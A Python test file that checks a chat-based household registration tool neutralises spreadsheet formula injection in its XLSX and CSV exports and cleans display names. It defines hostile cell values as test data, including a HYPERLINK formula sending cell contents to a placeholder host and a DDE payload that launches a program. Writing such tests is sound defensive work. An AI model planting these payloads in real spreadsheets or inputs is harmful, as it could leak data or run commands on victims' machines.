"""A hostile name, address, member name and note typed through `kawal chat` end as plain text in
every export (issue 18): the SIKS-NG export (XLSX and the CSV zip) and the quality workbook,
opened here with openpyxl / read as CSV text. The workbook writer all oversight files share is
checked directly too, and display names are held to the rule of typed names."""

from __future__ import annotations

import csv
import io
import sqlite3
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from handlers.kit.workbooks import is_formula_like, neutralise, write_sheets
from handlers.people.names import clean_display_name, name_from_display
from tests.bot.test_console_chat import kawal

HYPERLINK = '=HYPERLINK("http://x/?d="&D2,"klik")'
DDE = "+cmd|' /C calc'!A0"
AT = "@SUM(1)"
MINUS = "-2+3"
HOSTILE = (HYPERLINK, DDE, AT, MINUS)

PROPOSAL = [
    "4",  # menu: Usulan keluarga baru
    "1804190101250009",
    HYPERLINK,  # head's name
    "1",
    "27-04-1990",
    "1804072704900999",
    DDE,  # address
    "2",
    "1",
    "ya",  # one more member
    AT,  # member's name
    "2",  # Perempuan
    "14-05-1992",
    "1804195405920001",
    "1",  # Istri/suami
    "2",  # Kawin
    "tidak",
    "foto: rumah-joko",
    "lewati",  # no GPS location
    MINUS,  # notes
    "simpan",
]


def _cells(path: Path) -> list[tuple[object, str]]:
    book = load_workbook(path)  # not read-only: cells keep their data type
    found = [
        (cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    book.close()
    return found


def _assert_plain_text(cells: list[tuple[object, str]]) -> None:
    assert not [value for value, kind in cells if kind == "f"], "a formula cell was written"
    for hostile in HOSTILE:
        assert (hostile, "s") in cells, f"{hostile!r} is not a text cell"


def test_a_hostile_proposal_typed_in_the_chat_is_text_in_every_export(tmp_path: Path) -> None:
    db = tmp_path / "kawal.db"
    kawal("region", "load", "18.04.19", "--db", str(db), cwd=tmp_path)
    code = kawal(
        "invite", "create", "--role", "operator", "--region", "18.04.19.2006", "--db", str(db),
        cwd=tmp_path,
    ).stdout.strip()  # fmt: skip
    script = [f"/start {code}", "1", "Budi Santoso", *PROPOSAL]
    out = kawal(
        "chat", "--db", str(db), "--user", "hp-budi", cwd=tmp_path,
        stdin="\n".join(script) + "\n",
    ).stdout  # fmt: skip
    assert "Usulan keluarga baru" in out and "tercatat" in out

    xlsx = tmp_path / "ekspor.xlsx"
    kawal("export", "--region", "18.04.19", "--format", "xlsx", "--out", str(xlsx),
          "--db", str(db), cwd=tmp_path)  # fmt: skip
    _assert_plain_text(_cells(xlsx))

    archive = tmp_path / "ekspor.zip"
    kawal("export", "--region", "18.04.19", "--format", "csv", "--out", str(archive),
          "--db", str(db), cwd=tmp_path)  # fmt: skip
    with zipfile.ZipFile(archive) as opened:
        text = "\n".join(opened.read(name).decode("utf-8-sig") for name in opened.namelist())
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    for hostile in HOSTILE:
        assert "'" + hostile in cells and hostile not in cells
    assert not [c for c in cells if is_formula_like(c)]

    # Nobody touched the proposal since 2020: the quality workbook lists it as untouched.
    with sqlite3.connect(db) as connection:
        connection.execute("UPDATE households SET updated_at = '2020' || substr(updated_at, 5)")
    quality = tmp_path / "kualitas.xlsx"
    kawal("report", "quality", "--region", "18.04", "--out", str(quality),
          "--untouched-since", "2021-01-01", "--db", str(db), cwd=tmp_path)  # fmt: skip
    book_cells = _cells(quality)
    assert not [value for value, kind in book_cells if kind == "f"]
    assert (HYPERLINK, "s") in book_cells  # the head's name, in the untouched households


def test_the_shared_workbook_writer_neutralises_every_string(tmp_path: Path) -> None:
    path = write_sheets(
        tmp_path / "laporan.xlsx",
        [("Penerima", ["Nama", "=1+1"], [[h, 5] for h in HOSTILE] + [[" \t=SUM(A1)", -3]])],
    )
    cells = _cells(path)
    _assert_plain_text(cells)
    assert ("=1+1", "s") in cells and (" \t=SUM(A1)", "s") in cells
    assert (5, "n") in cells and (-3, "n") in cells  # numbers we write stay numbers


@pytest.mark.parametrize(
    ("value", "csv_value"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        (AT, "'" + AT),
        (MINUS, "'" + MINUS),
        ("\tdata", "'\tdata"),
        ("\r=1", "'\r=1"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
        ("-5.123456, 104.123456", "-5.123456, 104.123456"),  # a location we write
        ("-12", "-12"),
        ("Agus Hidayat", "Agus Hidayat"),
        ("", ""),
        (7, 7),
        (None, None),
    ],
)
def test_neutralise_for_csv(value: object, csv_value: object) -> None:
    assert neutralise(value) == csv_value


@pytest.mark.parametrize(
    ("display", "name"),
    [
        ("Budi Santoso", "Budi Santoso"),
        ("  Siti\u200b  Aminah\n", "Siti Aminah"),
        (HYPERLINK, None),
        ("+62 812", None),
        ("@budi", None),
        ("-Budi", None),
        ("\u202eBudi", "Budi"),  # a right-to-left override is dropped
        ("B" * 500, None),  # too long to be a name
    ],
)
def test_display_names_follow_the_typed_name_rule(display: str, name: str | None) -> None:
    kept = clean_display_name(display)
    assert len(kept) <= 80 and "\n" not in kept and "\u202e" not in kept
    assert name_from_display(display) == name
